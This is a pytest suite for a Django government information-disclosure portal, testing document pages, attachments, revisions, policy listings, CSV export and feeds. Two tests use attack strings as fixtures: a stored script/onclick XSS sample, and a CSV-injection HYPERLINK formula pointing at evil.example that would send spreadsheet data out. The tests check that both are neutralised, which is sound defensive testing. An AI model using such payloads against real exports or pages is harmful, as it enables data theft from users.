import csv
import io
from datetime import date, datetime
from urllib.parse import quote

import pytest
import time_machine
from django.urls import reverse

from gongkai.core.clock import CHINA
from gongkai.publishing import samplefiles, workflow
from gongkai.publishing.models import LinkKind

from .factories import content, draft, normative, published

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _march_2024():
    with time_machine.travel(datetime(2024, 3, 20, 10, tzinfo=CHINA), tick=False):
        yield


def _publish_draft(document, editor, reviewer):
    workflow.submit(actor=editor, document=document)
    workflow.review(
        actor=reviewer, document=document, confidentiality_result="同意", disclosure_confirmed=True
    )
    workflow.publish(actor=reviewer, document=document)
    document.refresh_from_db()
    return document


def test_document_page_has_standard_header_and_chinese_attachment_name(
    client, editor_a, reviewer_a, unit_a
):
    document = draft(editor_a, unit_a)
    data = samplefiles.pdf_bytes([["附件内容"]])
    workflow.add_attachment(
        actor=editor_a, document=document, data=data, filename="附件1：资金分配表.pdf"
    )
    document = _publish_draft(document, editor_a, reviewer_a)
    page = client.get(document.get_absolute_url()).content.decode()
    for label in ("索引号", "主题分类", "发布机构", "成文日期", "发布日期", "文号", "有效性"):
        assert f">{label}</th>" in page
    assert document.index_number in page and "农业、林业、水利\\林业" in page
    attachment = document.revisions.get().attachments.get()
    response = client.get(reverse("publishing:attachment", args=[document.pk, attachment.pk]))
    assert response.status_code == 200 and b"".join(response.streaming_content) == data
    assert f"filename*=utf-8''{quote('附件1：资金分配表.pdf')}" in response["Content-Disposition"]
    assert response["Content-Type"] == "application/pdf"


def test_interpretations_and_amendments_shown_both_ways(client, editor_a, reviewer_a, unit_a):
    policy = published(editor_a, reviewer_a, unit_a, data=normative(doc_number="测政发〔2024〕1号"))
    interpretation = published(
        editor_a,
        reviewer_a,
        unit_a,
        data=content(
            title="《管理办法》政策解读",
            doc_type="interpretation",
            doc_number="",
            interprets_id=policy.pk,
        ),
    )
    amendment = published(
        editor_a,
        reviewer_a,
        unit_a,
        links=[{"kind": LinkKind.AMENDS, "target": policy.pk}],
        data=normative(title="关于修改《管理办法》的决定", doc_number="测政发〔2024〕2号"),
    )
    policy_page = client.get(policy.get_absolute_url()).content.decode()
    assert (
        interpretation.title in policy_page
        and "本文件被修改于" in policy_page
        and amendment.title in policy_page
    )
    assert policy.title in client.get(interpretation.get_absolute_url()).content.decode()
    assert "本文件修改" in client.get(amendment.get_absolute_url()).content.decode()
    policy.refresh_from_db()
    assert (
        policy.validity == "not_yet"
    )  # amended, but its own effective date (1 April) has not come


def test_revision_history_and_old_version(client, editor_a, reviewer_a, unit_a):
    document = published(editor_a, reviewer_a, unit_a)
    workflow.start_revision(actor=editor_a, document=document, change_note="更正错字")
    workflow.update_draft(actor=editor_a, document=document, content=content(title="新标题"))
    document = _publish_draft(document, editor_a, reviewer_a)
    page = client.get(document.get_absolute_url()).content.decode()
    assert "新标题" in page and "版本记录" in page and "更正错字" in page
    old = client.get(reverse("publishing:document-version", args=[document.pk, 1])).content.decode()
    assert "关于做好2024年春季森林防火工作的通知" in old and "历史版本" in old


def test_withdrawn_url_says_so(client, editor_a, reviewer_a, unit_a):
    document = published(editor_a, reviewer_a, unit_a)
    workflow.withdraw(actor=reviewer_a, document=document, reason="内容已过时")
    response = client.get(document.get_absolute_url())
    assert response.status_code == 410
    assert "该信息已撤回" in response.content.decode() and "内容已过时" in response.content.decode()
    assert (
        document.title
        not in client.get(reverse("portal:column-statutory", args=[unit_a.code])).content.decode()
    )


def test_print_view(client, editor_a, reviewer_a, unit_a):
    document = published(editor_a, reviewer_a, unit_a)
    page = client.get(reverse("publishing:document-print", args=[document.pk])).content.decode()
    assert document.index_number in page and "<nav" not in page


def test_body_script_never_rendered_even_if_stored(client, editor_a, reviewer_a, unit_a):
    from gongkai.publishing.models import Document

    document = published(editor_a, reviewer_a, unit_a)
    Document.objects.filter(pk=document.pk).update(
        body_html='<p onclick="x()">正文</p><script>alert(1)</script>'
    )
    page = client.get(document.get_absolute_url()).content.decode()
    assert "alert(1)" not in page and "onclick" not in page


def test_statutory_listing_filters_sorts_and_paginates_with_stable_urls(
    client, editor_a, reviewer_a, unit_a, monkeypatch
):
    from gongkai.publishing import views

    for n in range(3):
        published(editor_a, reviewer_a, unit_a, title=f"应急通知{n}", statutory_category="a20.12")
    published(
        editor_a,
        reviewer_a,
        unit_a,
        title="预算公开",
        statutory_category="a20.07",
        subject="04.01",
        doc_type="report",
    )
    url = reverse("portal:column-statutory", args=[unit_a.code])
    page = client.get(url).content.decode()
    assert "（3）" in page and "（1）" in page
    only_budget = client.get(url + "?category=a20.07").content.decode()
    assert "预算公开" in only_budget and "应急通知0" not in only_budget
    by_subject = client.get(url + "?subject=04").content.decode()
    assert "预算公开" in by_subject and "应急通知1" not in by_subject
    assert "应急通知2" not in client.get(url + "?year=2023").content.decode()
    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    first = client.get(url + "?category=a20.12&sort=title")
    second = client.get(url + "?category=a20.12&sort=title&page=2")
    assert [d.title for d in first.context["page"]] == ["应急通知0", "应急通知1"]
    assert [d.title for d in second.context["page"]] == ["应急通知2"]
    assert "?category=a20.12&amp;sort=title&amp;page=2" in first.content.decode()
    assert client.get(url + "?category=nope").status_code == 404


def test_policy_library_lists_what_is_in_force_on_a_date_and_downloads_csv(
    client, editor_a, reviewer_a, unit_a
):
    old = published(
        editor_a,
        reviewer_a,
        unit_a,
        data=normative(
            title="旧办法", doc_number="测政发〔2024〕1号", effective_date=date(2024, 1, 1)
        ),
    )
    published(
        editor_a,
        reviewer_a,
        unit_a,
        links=[{"kind": LinkKind.REPEALS, "target": old.pk}],
        data=normative(
            title="废止决定", doc_number="测政发〔2024〕2号", effective_date=date(2024, 6, 1)
        ),
    )
    url = reverse("publishing:policies")
    assert "旧办法" in client.get(url + "?on=2024-05-31").content.decode()
    assert "旧办法" not in client.get(url + "?on=2024-06-01").content.decode()
    old.refresh_from_db()
    assert old.repealed_on == date(2024, 6, 1)
    response = client.get(url + "?on=2024-05-31&format=csv")
    text = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv")
    assert (
        text.splitlines()[0].startswith("索引号,标题,文号")
        and "旧办法" in text
        and "废止决定" not in text
    )


def test_feeds_sitemap_and_robots(client, editor_a, reviewer_a, unit_a):
    document = published(editor_a, reviewer_a, unit_a)
    feed = client.get(reverse("publishing:feed-unit", args=[unit_a.code]))
    assert (
        feed["Content-Type"].startswith("application/atom+xml")
        and document.title in feed.content.decode()
    )
    category = client.get(reverse("publishing:feed-category", args=["a20.12"])).content.decode()
    assert document.title in category
    assert (
        document.title
        not in client.get(reverse("publishing:feed-category", args=["a20.07"])).content.decode()
    )
    assert document.get_absolute_url() in client.get("/sitemap.xml").content.decode()
    robots = client.get("/robots.txt").content.decode()
    assert "Disallow: /console/" in robots and "Sitemap: http://testserver/sitemap.xml" in robots


def test_policy_library_filters_by_unit_subject_and_keyword(
    client, editor_a, reviewer_a, unit_a, editor_b, reviewer_b, unit_b
):
    housing = published(
        editor_a,
        reviewer_a,
        unit_a,
        data=normative(title="甲局住房补贴办法", doc_number="测甲发〔2024〕1号", subject="10.02"),
    )
    budget = published(
        editor_a,
        reviewer_a,
        unit_a,
        data=normative(
            title="甲局专项资金管理办法", doc_number="测甲发〔2024〕2号", subject="04.01"
        ),
    )
    joint = published(
        editor_b,
        reviewer_b,
        unit_b,
        co_issuer_ids=[unit_a.pk],
        data=normative(
            title="乙局甲局住房保障细则", doc_number="测乙发〔2024〕1号", subject="10.01"
        ),
    )
    other = published(
        editor_b,
        reviewer_b,
        unit_b,
        data=normative(title="乙局专项资金办法", doc_number="测乙发〔2024〕2号", subject="04.01"),
    )

    def titles(**params):
        response = client.get(reverse("publishing:policies"), {"on": "2024-05-01", **params})
        return {d.title for d in response.context["page"]}

    assert titles() == {housing.title, budget.title, joint.title, other.title}
    assert titles(unit=unit_a.code) == {housing.title, budget.title, joint.title}
    assert titles(unit=unit_b.code) == {joint.title, other.title}
    assert titles(subject="04") == {budget.title, other.title}
    assert titles(q="住房") == {housing.title, joint.title}
    assert titles(unit=unit_b.code, subject="10", q="住房") == {joint.title}
    csv = client.get(
        reverse("publishing:policies"), {"on": "2024-05-01", "subject": "04", "format": "csv"}
    ).content.decode("utf-8-sig")
    assert budget.title in csv and other.title in csv and housing.title not in csv


def test_the_policy_csv_never_hands_a_spreadsheet_a_formula(client, editor_a, reviewer_a, unit_a):
    # A title is typed by an editor; opened in Excel or WPS it must stay text, not run.
    published(
        editor_a,
        reviewer_a,
        unit_a,
        data=normative(title='=HYPERLINK("http://evil.example/?"&A1,"点击")'),
    )
    response = client.get(reverse("publishing:policies") + "?on=2024-05-31&format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    titles = [row[1] for row in rows[1:]]
    assert titles == ['\'=HYPERLINK("http://evil.example/?"&A1,"点击")']
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
